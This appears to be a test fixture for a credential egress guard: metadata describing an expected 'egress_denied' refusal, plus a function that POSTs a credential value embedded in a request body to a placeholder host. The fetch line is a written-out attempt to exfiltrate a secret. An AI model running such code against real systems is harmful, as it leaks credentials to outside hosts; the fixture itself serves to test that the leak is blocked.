export const attempt = {
  tries: "to send a value that it was given itself to another host in a body",
  refusedBecause: "a short body is read to its end before it leaves",
  ends: { code: "egress_denied", message: "it would be sent the credential KEY" },
  receipt: { host: "{other}", reason: "it would be sent the credential KEY" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  await fetch(`http://${other}/reached`, { method: "POST", body: `a ${credentials.KEY} b` });
  return "got through";
};
